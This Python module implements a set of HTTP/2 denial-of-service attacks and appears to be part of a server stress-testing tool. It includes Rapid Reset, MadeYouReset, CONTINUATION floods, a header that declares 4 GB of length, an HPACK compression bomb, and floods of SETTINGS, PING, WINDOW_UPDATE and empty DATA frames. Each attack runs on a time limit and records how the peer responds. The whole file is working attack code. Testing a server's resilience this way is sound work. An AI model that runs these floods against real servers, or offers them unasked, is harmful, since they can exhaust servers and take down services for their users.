"""One connection that sends frames as fast as they are taken, of kinds that cost the peer more than
their sender. Each attack ends after its time, or when the peer has closed the connection.
"""

from __future__ import annotations

import time
from collections.abc import Callable

import h2
from dial import Dial
from h2 import Connection, frame
from result import Result


def _flood(dial: Dial, seconds: float, make: Callable[[int], bytes], frames: int) -> Result:
    """Sends what `make` returns for 0, 1, 2, ...: each of so many frames."""
    connection = Connection(dial.open())
    deadline = time.monotonic() + seconds
    rounds = 0
    while connection.open and time.monotonic() < deadline:
        if not connection.send(make(rounds)):
            break
        connection.frames.clear()
        rounds += 1
    connection.wait_closed(1.0)
    result = Result(sent=rounds * frames)
    return result.note(connection)


def _calls_ended_by(dial: Dial, seconds: float, end: Callable[[int], bytes]) -> Result:
    """Begins calls; the frame that `end` makes for a stream ends each at once."""
    headers = h2.call_headers(h2.GET_HEAD)
    batch = 50

    def make(number: int) -> bytes:
        out = b""
        for i in range(batch):
            stream = 2 * (number * batch + i) + 1
            out += frame(h2.HEADERS, h2.END_HEADERS, stream, headers) + end(stream)
        return out

    return _flood(dial, seconds, make, batch)


def rapid_reset(dial: Dial, seconds: float) -> Result:
    cancel = (8).to_bytes(4, "big")
    return _calls_ended_by(dial, seconds, lambda stream: frame(h2.RST_STREAM, 0, stream, cancel))


def reset_after_message(dial: Dial, seconds: float) -> Result:
    """As rapid_reset, but with a whole message, so that it is a call to who stands between."""
    cancel = (8).to_bytes(4, "big")

    def end(stream: int) -> bytes:
        message = frame(h2.DATA, 0, stream, h2.EMPTY_MESSAGE)
        return message + frame(h2.RST_STREAM, 0, stream, cancel)

    return _calls_ended_by(dial, seconds, end)


def call_flood(dial: Dial, seconds: float) -> Result:
    """Whole calls, without waiting for an answer."""
    return _calls_ended_by(
        dial, seconds, lambda stream: frame(h2.DATA, h2.END_STREAM, stream, h2.EMPTY_MESSAGE)
    )


def made_you_reset(dial: Dial, seconds: float) -> Result:
    """Calls that the peer itself must reset: their window grows by nothing."""
    nothing = (0).to_bytes(4, "big")
    return _calls_ended_by(
        dial, seconds, lambda stream: frame(h2.WINDOW_UPDATE, 0, stream, nothing)
    )


def _endless_header(dial: Dial, seconds: float, told: int, bytes_max: int) -> Result:
    """One header that says that it has `told` bytes, in CONTINUATION frames."""
    connection = Connection(dial.open())
    start = b"\x00" + h2.integer(1, 7, 0) + b"x" + h2.integer(told, 7, 0)
    connection.send(frame(h2.HEADERS, 0, 1, h2.call_headers(h2.GET_HEAD) + start))
    sent = 0
    deadline = time.monotonic() + seconds
    while connection.open and sent < bytes_max and time.monotonic() < deadline:
        if not connection.send(frame(h2.CONTINUATION, 0, 1, b"x" * h2.FRAME_BYTES)):
            break
        sent += h2.FRAME_BYTES
    connection.wait_closed(1.0)
    return Result(sent=sent).note(connection)


def continuation_flood(dial: Dial, seconds: float, bytes_max: int = 8 << 20) -> Result:
    return _endless_header(dial, seconds, 2 * bytes_max, bytes_max)


def huge_string(dial: Dial, seconds: float, bytes_max: int = 8 << 20) -> Result:
    """A header that says that it has 4 GB."""
    return _endless_header(dial, seconds, 0xFFFFFFFF, bytes_max)


def hpack_bomb(dial: Dial, seconds: float) -> Result:
    """A header of 4,000 bytes in the peer's table, then named 16,000 times a frame."""
    first = h2.call_headers(h2.GET_HEAD) + h2.literal(b"a", b"x" * 3900, 0x40)
    bomb = b"\xbe" * (h2.FRAME_BYTES - 1024)

    def make(number: int) -> bytes:
        stream = 2 * number + 1
        block = first if number == 0 else h2.call_headers(h2.GET_HEAD) + bomb
        return frame(h2.HEADERS, h2.END_HEADERS | h2.END_STREAM, stream, block)

    return _flood(dial, seconds, make, 1)


def metadata_1mb(dial: Dial, seconds: float) -> Result:
    """Well-formed calls with 1 MB of metadata each."""
    block = h2.call_headers(h2.GET_HEAD) + h2.literal(b"x", b"x" * (1 << 20))
    parts = [block[i:i + h2.FRAME_BYTES] for i in range(0, len(block), h2.FRAME_BYTES)]

    def make(number: int) -> bytes:
        stream = 2 * number + 1
        out = frame(h2.HEADERS, h2.END_STREAM, stream, parts[0])
        for i, part in enumerate(parts[1:], 2):
            out += frame(h2.CONTINUATION, h2.END_HEADERS if i == len(parts) else 0, stream, part)
        return out

    return _flood(dial, seconds, make, 1)


def settings_flood(dial: Dial, seconds: float) -> Result:
    batch = frame(h2.SETTINGS, 0, 0, b"\0\x04" + (65535).to_bytes(4, "big")) * 100
    return _flood(dial, seconds, lambda number: batch, 100)


def ping_flood(dial: Dial, seconds: float) -> Result:
    batch = frame(h2.PING, 0, 0, b"12345678") * 100
    return _flood(dial, seconds, lambda number: batch, 100)


def held_ping_flood(dial: Dial, seconds: float) -> Result:
    """The same beside a call whose message does not end, so that the connection is in use."""
    start = frame(h2.HEADERS, h2.END_HEADERS, 1, h2.call_headers(h2.GET_HEAD)) + h2.begun_message(1)
    batch = frame(h2.PING, 0, 0, b"12345678") * 100
    return _flood(dial, seconds, lambda number: (b"" if number else start) + batch, 100)


def window_update_flood(dial: Dial, seconds: float) -> Result:
    batch = frame(h2.WINDOW_UPDATE, 0, 0, (1).to_bytes(4, "big")) * 100
    return _flood(dial, seconds, lambda number: batch, 100)


def empty_frames(dial: Dial, seconds: float) -> Result:
    """A call whose body is DATA frames without data."""
    start = frame(h2.HEADERS, h2.END_HEADERS, 1, h2.call_headers(h2.GET_HEAD))
    batch = frame(h2.DATA, 0, 1) * 100
    return _flood(dial, seconds, lambda number: (b"" if number else start) + batch, 100)
